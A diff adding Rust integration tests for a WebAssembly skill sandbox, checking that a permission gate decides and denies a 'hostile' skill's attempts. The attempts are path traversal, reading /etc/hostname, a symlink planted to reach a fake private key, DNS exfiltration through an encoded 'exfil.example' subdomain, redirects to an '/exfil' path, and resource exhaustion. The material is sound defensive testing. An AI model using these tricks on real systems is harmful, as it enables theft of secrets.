@@ -1,0 +1,610 @@
+//! The runtime with the example skills (`examples/skills`, built for `wasm32-wasip2` by
+//! `cargo xtask skills`) and a gate that allows only what each test says.
+#![allow(
+    clippy::unwrap_used,
+    clippy::expect_used,
+    clippy::panic,
+    reason = "tests fail by panicking"
+)]
+
+use std::collections::HashMap;
+use std::io::{BufRead, BufReader, Write};
+use std::net::TcpListener;
+use std::path::{Path, PathBuf};
+use std::sync::{Arc, Mutex, OnceLock};
+use std::time::Duration;
+
+use cordon_skills::{
+    Decision, Gate, Limits, Preopen, Run, Runtime, RuntimeOptions, Sink, SkillFile, Stopped,
+};
+use serde_json::Value;
+
+fn skill_path(name: &str) -> PathBuf {
+    let dir = std::env::var_os("CORDON_SKILLS_DIR").map_or_else(
+        || Path::new(env!("CARGO_MANIFEST_DIR")).join("../../target/wasm32-wasip2/release"),
+        PathBuf::from,
+    );
+    let path = dir.join(format!("{name}.wasm"));
+    assert!(
+        path.exists(),
+        "{} is missing: build the example skills first (`cargo xtask skills`)",
+        path.display()
+    );
+    path
+}
+
+type Rule = Box<dyn Fn(&str, &str, &Value) -> bool + Send + Sync>;
+
+/// Allows what `rule` allows and keeps every call it was asked.
+struct TestGate {
+    rule: Rule,
+    asked: Mutex<Vec<(String, String, Value, bool)>>,
+}
+
+impl TestGate {
+    fn new(rule: impl Fn(&str, &str, &Value) -> bool + Send + Sync + 'static) -> Arc<Self> {
+        Arc::new(Self {
+            rule: Box::new(rule),
+            asked: Mutex::new(Vec::new()),
+        })
+    }
+
+    fn asked(&self) -> Vec<(String, String, Value, bool)> {
+        self.asked.lock().unwrap().clone()
+    }
+
+    fn denied(&self) -> Vec<(String, Value)> {
+        self.asked()
+            .into_iter()
+            .filter(|(_, _, _, allowed)| !allowed)
+            .map(|(_, action, resource, _)| (action, resource))
+            .collect()
+    }
+}
+
+impl Gate for TestGate {
+    fn decide(&self, capability: &str, action: &str, resource: Value) -> Decision {
+        let allow = (self.rule)(capability, action, &resource);
+        self.asked
+            .lock()
+            .unwrap()
+            .push((capability.into(), action.into(), resource, allow));
+        Decision {
+            allow,
+            reasons: vec![if allow { "test allows" } else { "test denies" }.into()],
+            obligations: Vec::new(),
+            grants: None,
+        }
+    }
+}
+
+/// Paths inside `root` may be read; nothing else is allowed.
+fn reads_inside(root: &Path) -> Arc<TestGate> {
+    let root = root.to_path_buf();
+    TestGate::new(move |capability, action, resource| {
+        capability == "file"
+            && matches!(action, "read" | "list")
+            && Path::new(resource["path"].as_str().unwrap_or("")).starts_with(&root)
+    })
+}
+
+struct Ran {
+    code: i32,
+    stopped: Option<Stopped>,
+    stdout: String,
+    stderr: String,
+}
+
+/// One runtime for the tests, each skill compiled once.
+fn prepared(name: &str) -> (&'static Runtime, Arc<cordon_skills::Prepared>) {
+    static RUNTIME: OnceLock<Runtime> = OnceLock::new();
+    static PREPARED: OnceLock<Mutex<HashMap<String, Arc<cordon_skills::Prepared>>>> =
+        OnceLock::new();
+    let runtime = RUNTIME.get_or_init(|| Runtime::new(&RuntimeOptions::default()).unwrap());
+    let mut prepared = PREPARED.get_or_init(Default::default).lock().unwrap();
+    let skill = prepared
+        .entry(name.to_owned())
+        .or_insert_with(|| {
+            Arc::new(
+                runtime
+                    .prepare(SkillFile::read(&skill_path(name)).unwrap())
+                    .unwrap(),
+            )
+        })
+        .clone();
+    (runtime, skill)
+}
+
+fn run(
+    name: &str,
+    args: &[&str],
+    preopens: Vec<Preopen>,
+    gate: Arc<TestGate>,
+    limits: Limits,
+) -> Ran {
+    let (runtime, prepared) = prepared(name);
+    let stdout = Arc::new(Mutex::new(Vec::new()));
+    let stderr = Arc::new(Mutex::new(Vec::new()));
+    let mut argv = vec![name.to_owned()];
+    argv.extend(args.iter().map(|a| (*a).to_owned()));
+    let exit = runtime
+        .run(
+            &prepared,
+            Run {
+                args: argv,
+                env: Vec::new(),
+                preopens,
+                gate,
+                limits,
+                stdin: false,
+                stdout: Sink::Memory(stdout.clone()),
+                stderr: Sink::Memory(stderr.clone()),
+                stop: Default::default(),
+            },
+        )
+        .unwrap();
+    let text = |b: &Arc<Mutex<Vec<u8>>>| String::from_utf8_lossy(&b.lock().unwrap()).into_owned();
+    Ran {
+        code: exit.code,
+        stopped: exit.stopped,
+        stdout: text(&stdout),
+        stderr: text(&stderr),
+    }
+}
+
+/// A directory holding `notes/a.md` and `notes/b.txt`, canonical, and its preopen `/data`.
+fn workspace() -> (tempfile::TempDir, PathBuf, Vec<Preopen>) {
+    let dir = tempfile::tempdir().unwrap();
+    let root = std::fs::canonicalize(dir.path()).unwrap();
+    std::fs::create_dir(root.join("notes")).unwrap();
+    fs_err::write(root.join("notes/a.md"), "# Plan\n\nship the runner\n").unwrap();
+    fs_err::write(root.join("notes/b.txt"), "one two three\n").unwrap();
+    let preopen = Preopen {
+        host: root.clone(),
+        guest: "/data".into(),
+        writable: false,
+    };
+    (dir, root, vec![preopen])
+}
+
+#[test]
+fn a_skill_reads_the_files_of_its_grant_and_each_open_is_decided() {
+    let (_dir, root, preopens) = workspace();
+    let gate = reads_inside(&root);
+    let ran = run(
+        "summarise",
+        &["/data/notes"],
+        preopens,
+        gate.clone(),
+        Limits::default(),
+    );
+    assert_eq!(ran.code, 0, "{}", ran.stderr);
+    assert!(
+        ran.stdout
+            .contains("/data/notes/a.md: 3 lines, 5 words: # Plan"),
+        "{}",
+        ran.stdout
+    );
+    assert!(
+        ran.stdout.contains("/data/notes/b.txt: 1 lines, 3 words"),
+        "{}",
+        ran.stdout
+    );
+    let opened: Vec<String> = gate
+        .asked()
+        .iter()
+        .filter(|(_, action, _, _)| action == "read")
+        .map(|(_, _, r, _)| r["path"].as_str().unwrap().to_owned())
+        .collect();
+    let a = root.join("notes/a.md").display().to_string();
+    assert!(opened.contains(&a), "{opened:?}");
+    let (_, _, resource, _) = gate
+        .asked()
+        .into_iter()
+        .find(|(_, _, r, _)| r["path"] == a)
+        .unwrap();
+    assert_eq!(resource["size"], 24);
+    assert_eq!(resource["mode"]["read"], true);
+    assert_eq!(resource["mode"]["write"], false);
+}
+
+#[test]
+fn a_file_the_gate_denies_is_not_read() {
+    let (_dir, root, preopens) = workspace();
+    let denied = root.join("notes/b.txt");
+    let inner = reads_inside(&root);
+    let gate = TestGate::new(move |c, a, r| {
+        r["path"] != denied.display().to_string() && (inner.rule)(c, a, r)
+    });
+    let ran = run(
+        "hostile",
+        &["read", "/data/notes/b.txt"],
+        preopens,
+        gate.clone(),
+        Limits::default(),
+    );
+    assert!(ran.stdout.starts_with("denied: read"), "{}", ran.stdout);
+    assert_eq!(
+        gate.denied()[0].1["path"],
+        root.join("notes/b.txt").display().to_string()
+    );
+}
+
+#[test]
+fn path_traversal_out_of_the_grant_is_decided_on_the_real_path_and_denied() {
+    let (_dir, root, preopens) = workspace();
+    // The target exists and this process can read it: only the runtime stands between.
+    let target = root
+        .parent()
+        .unwrap()
+        .join(format!("cordon-skill-target-{}", std::process::id()));
+    fs_err::write(&target, "outside the grant").unwrap();
+    let name = target.file_name().unwrap().to_str().unwrap();
+    let gate = reads_inside(&root);
+    let ran = run(
+        "hostile",
+        &["read", &format!("/data/notes/../../{name}")],
+        preopens,
+        gate.clone(),
+        Limits::default(),
+    );
+    std::fs::remove_file(&target).unwrap();
+    assert!(ran.stdout.starts_with("denied: read"), "{}", ran.stdout);
+    assert_eq!(gate.denied()[0].1["path"], target.display().to_string());
+}
+
+#[test]
+fn an_absolute_path_through_the_raw_interface_is_decided_and_denied() {
+    let (_dir, root, preopens) = workspace();
+    let gate = reads_inside(&root);
+    let ran = run(
+        "hostile",
+        &["open-at", "/etc/hostname"],
+        preopens,
+        gate.clone(),
+        Limits::default(),
+    );
+    assert!(ran.stdout.starts_with("denied: open-at"), "{}", ran.stdout);
+    assert_eq!(gate.denied()[0].1["path"], "/etc/hostname");
+}
+
+#[test]
+fn a_link_planted_in_the_grant_pointing_out_is_decided_on_its_target_and_denied() {
+    let (_dir, root, preopens) = workspace();
+    let outside = tempfile::tempdir().unwrap();
+    let secret = std::fs::canonicalize(outside.path())
+        .unwrap()
+        .join("id_rsa");
+    fs_err::write(&secret, "PRIVATE KEY").unwrap();
+    std::os::unix::fs::symlink(&secret, root.join("notes/innocent.md")).unwrap();
+    // Followed by anyone but the skill, the link reaches the secret.
+    assert_eq!(
+        fs_err::read_to_string(root.join("notes/innocent.md")).unwrap(),
+        "PRIVATE KEY"
+    );
+    let gate = reads_inside(&root);
+    let ran = run(
+        "hostile",
+        &["read", "/data/notes/innocent.md"],
+        preopens,
+        gate.clone(),
+        Limits::default(),
+    );
+    assert!(ran.stdout.starts_with("denied: read"), "{}", ran.stdout);
+    assert_eq!(gate.denied()[0].1["path"], secret.display().to_string());
+}
+
+#[test]
+fn writes_are_decided_and_a_read_only_grant_holds_even_if_the_gate_allowed() {
+    let (_dir, root, mut preopens) = workspace();
+    let gate = reads_inside(&root);
+    let ran = run(
+        "hostile",
+        &["write", "/data/planted.sh"],
+        preopens.clone(),
+        gate.clone(),
+        Limits::default(),
+    );
+    assert!(ran.stdout.starts_with("denied: write"), "{}", ran.stdout);
+    assert_eq!(gate.denied()[0].0, "create");
+    assert!(!root.join("planted.sh").exists());
+
+    // Allowed by the gate, but the grant is read-only.
+    let ran = run(
+        "hostile",
+        &["write", "/data/planted.sh"],
+        preopens.clone(),
+        TestGate::new(|_, _, _| true),
+        Limits::default(),
+    );
+    assert!(ran.stdout.starts_with("denied: write"), "{}", ran.stdout);
+    assert!(!root.join("planted.sh").exists());
+
+    // Writable and allowed: written.
+    preopens[0].writable = true;
+    let ran = run(
+        "hostile",
+        &["write", "/data/planted.sh"],
+        preopens,
+        TestGate::new(|_, _, _| true),
+        Limits::default(),
+    );
+    assert!(ran.stdout.starts_with("LEAKED: write"), "{}", ran.stdout);
+    assert!(root.join("planted.sh").exists());
+}
+
+#[test]
+fn limits_stop_a_skill_and_say_which() {
+    let limits = Limits {
+        memory_bytes: 64 << 20,
+        cpu: Duration::from_millis(300),
+        output_bytes: 1 << 20,
+    };
+    let ran = run(
+        "hostile",
+        &["memory"],
+        Vec::new(),
+        TestGate::new(|_, _, _| false),
+        limits,
+    );
+    assert_eq!(
+        ran.stopped,
+        Some(Stopped::Memory { limit: 64 << 20 }),
+        "{}",
+        ran.stderr
+    );
+    assert_ne!(ran.code, 0);
+
+    let ran = run(
+        "hostile",
+        &["cpu"],
+        Vec::new(),
+        TestGate::new(|_, _, _| false),
+        limits,
+    );
+    assert_eq!(
+        ran.stopped,
+        Some(Stopped::Cpu {
+            limit: Duration::from_millis(300)
+        })
+    );
+    assert_ne!(ran.code, 0);
+
+    let ran = run(
+        "hostile",
+        &["flood"],
+        Vec::new(),
+        TestGate::new(|_, _, _| false),
+        limits,
+    );
+    assert_eq!(ran.stopped, Some(Stopped::Output { limit: 1 << 20 }));
+    assert!(ran.stdout.len() <= 1 << 20, "{}", ran.stdout.len());
+    assert_ne!(ran.code, 0);
+}
+
+/// Serves HTTP on 127.0.0.1: `/redirect?to=URL` answers 302 to URL, anything else 200 with
+/// `hello from PATH`. Returns the port.
+fn serve() -> u16 {
+    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = listener.local_addr().unwrap().port();
+    std::thread::spawn(move || {
+        for stream in listener.incoming().flatten() {
+            stream.set_read_timeout(Some(Duration::from_secs(5))).ok();
+            let mut reader = BufReader::new(stream.try_clone().unwrap());
+            let mut line = String::new();
+            if reader.read_line(&mut line).is_err() {
+                continue;
+            }
+            let path = line.split_whitespace().nth(1).unwrap_or("/").to_owned();
+            loop {
+                let mut header = String::new();
+                if reader.read_line(&mut header).unwrap_or(0) <= 2 {
+                    break;
+                }
+            }
+            let mut stream = stream;
+            let response = match path.strip_prefix("/redirect?to=") {
+                Some(to) => format!("HTTP/1.1 302 Found\r\nLocation: {to}\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"),
+                None => {
+                    let body = format!("hello from {path}");
+                    format!("HTTP/1.1 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}", body.len())
+                }
+            };
+            let _ = stream.write_all(response.as_bytes());
+        }
+    });
+    port
+}
+
+/// Allows HTTP to 127.0.0.1:`port` only.
+fn http_to(port: u16) -> Arc<TestGate> {
+    TestGate::new(move |capability, action, resource| {
+        capability == "net"
+            && action == "http"
+            && resource["host"] == "127.0.0.1"
+            && resource["port"] == port
+    })
+}
+
+#[test]
+fn outgoing_http_is_decided_with_method_url_and_body_size() {
+    let port = serve();
+    let gate = http_to(port);
+    let ran = run(
+        "fetch",
+        &[&format!("http://127.0.0.1:{port}/page")],
+        Vec::new(),
+        gate.clone(),
+        Limits::default(),
+    );
+    assert_eq!(ran.code, 0, "{}", ran.stderr);
+    assert!(ran.stdout.contains("hello from /page"), "{}", ran.stdout);
+    let (_, action, resource, allowed) = gate.asked().remove(0);
+    assert!(allowed);
+    assert_eq!(action, "http");
+    assert_eq!(resource["http"]["method"], "GET");
+    assert_eq!(
+        resource["http"]["url"],
+        format!("http://127.0.0.1:{port}/page")
+    );
+    assert_eq!(resource["http"]["body_bytes"], 0);
+    assert_eq!(resource["addresses"][0]["ip"], "127.0.0.1");
+}
+
+#[test]
+fn a_host_not_allowed_and_a_redirect_to_one_are_denied() {
+    let port = serve();
+    let other = serve();
+    // Another port of the same machine: not allowed.
+    let gate = http_to(port);
+    let ran = run(
+        "hostile",
+        &["get", &format!("http://127.0.0.1:{other}/x")],
+        Vec::new(),
+        gate.clone(),
+        Limits::default(),
+    );
+    assert!(ran.stdout.starts_with("denied: get"), "{}", ran.stdout);
+    assert_eq!(gate.denied()[0].1["port"], other);
+
+    // The allowed host redirects to the other: the first hop goes, the second is decided
+    // again and denied.
+    let gate = http_to(port);
+    let hop = format!("http://127.0.0.1:{port}/redirect?to=http://127.0.0.1:{other}/exfil");
+    let ran = run(
+        "fetch",
+        &[&hop],
+        Vec::new(),
+        gate.clone(),
+        Limits::default(),
+    );
+    assert_ne!(ran.code, 0);
+    assert!(ran.stdout.contains("302"), "{}", ran.stdout);
+    assert!(ran.stderr.contains("HttpRequestDenied"), "{}", ran.stderr);
+    let asked = gate.asked();
+    assert_eq!(asked.len(), 2, "{asked:?}");
+    assert!(asked[0].3 && !asked[1].3);
+    assert_eq!(asked[1].2["http"]["path"], "/exfil");
+}
+
+#[test]
+fn a_name_is_decided_before_it_is_looked_up() {
+    let gate = TestGate::new(|_, _, _| false);
+    let ran = run(
+        "hostile",
+        &["lookup", "c2VjcmV0.exfil.example"],
+        Vec::new(),
+        gate.clone(),
+        Limits::default(),
+    );
+    assert!(ran.stdout.starts_with("denied: lookup"), "{}", ran.stdout);
+    assert_eq!(
+        gate.denied(),
+        vec![(
+            "resolve".to_owned(),
+            serde_json::json!({"host": "c2vjcmv0.exfil.example"})
+        )]
+    );
+
+    let gate = TestGate::new(|_, _, _| false);
+    let ran = run(
+        "hostile",
+        &["get", "http://c2VjcmV0.exfil.example/"],
+        Vec::new(),
+        gate.clone(),
+        Limits::default(),
+    );
+    assert!(ran.stdout.starts_with("denied: get"), "{}", ran.stdout);
+    assert_eq!(gate.denied()[0].0, "resolve");
+}
+
+#[test]
+fn a_raw_connection_is_decided_on_its_address() {
+    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = listener.local_addr().unwrap().port();
+    let target = format!("127.0.0.1:{port}");
+    let gate = TestGate::new(|_, _, _| false);
+    let ran = run(
+        "hostile",
+        &["connect", &target],
+        Vec::new(),
+        gate.clone(),
+        Limits::default(),
+    );
+    assert!(ran.stdout.starts_with("denied: connect"), "{}", ran.stdout);
+    assert_eq!(gate.denied()[0].0, "socket");
+    assert_eq!(gate.denied()[0].1["port"], port);
+
+    let ran = run(
+        "hostile",
+        &["connect", &target],
+        Vec::new(),
+        TestGate::new(|_, _, _| true),
+        Limits::default(),
+    );
+    assert!(ran.stdout.starts_with("LEAKED: connect"), "{}", ran.stdout);
+}
+
+#[test]
+fn bad_skills_get_clear_errors() {
+    let dir = tempfile::tempdir().unwrap();
+    let text = dir.path().join("notes.wasm");
+    fs_err::write(&text, "not wasm").unwrap();
+    let err = SkillFile::read(&text).unwrap_err().to_string();
+    assert!(err.contains("is not a WebAssembly file"), "{err}");
+
+    let module = dir.path().join("module.wasm");
+    fs_err::write(&module, b"\0asm\x01\0\0\0").unwrap();
+    let err = SkillFile::read(&module).unwrap_err().to_string();
+    assert!(
+        err.contains("core WebAssembly module, not a component"),
+        "{err}"
+    );
+
+    let err = SkillFile::read(&dir.path().join("missing.wasm"))
+        .unwrap_err()
+        .to_string();
+    assert!(err.contains("cannot read skill"), "{err}");
+}
+
+#[test]
+fn a_compiled_skill_is_cached_and_a_damaged_entry_is_recompiled() {
+    use cordon_skills::CacheUse;
+    let cache = tempfile::tempdir().unwrap();
+    let options = RuntimeOptions {
+        cache_dir: Some(cache.path().join("skills")),
+        ..RuntimeOptions::default()
+    };
+    let runtime = Runtime::new(&options).unwrap();
+    let skill = SkillFile::read(&skill_path("summarise")).unwrap();
+    assert_eq!(
+        runtime.prepare(skill.clone()).unwrap().cache(),
+        &CacheUse::Stored
+    );
+    assert_eq!(
+        runtime.prepare(skill.clone()).unwrap().cache(),
+        &CacheUse::Hit
+    );
+    let entry = fs_err::read_dir(cache.path().join("skills"))
+        .unwrap()
+        .next()
+        .unwrap()
+        .unwrap()
+        .path();
+    assert!(entry
+        .file_name()
+        .unwrap()
+        .to_str()
+        .unwrap()
+        .starts_with(skill.sha256()));
+    // One byte of code flipped: refused, recompiled, rewritten.
+    let mut bytes = fs_err::read(&entry).unwrap();
+    let middle = bytes.len() / 2;
+    bytes[middle] ^= 0x40;
+    fs_err::write(&entry, &bytes).unwrap();
+    match runtime.prepare(skill.clone()).unwrap().cache() {
+        CacheUse::Recompiled(why) => assert!(why.contains("checksum"), "{why}"),
+        other => panic!("{other:?}"),
+    }
+    assert_eq!(runtime.prepare(skill).unwrap().cache(), &CacheUse::Hit);
+}
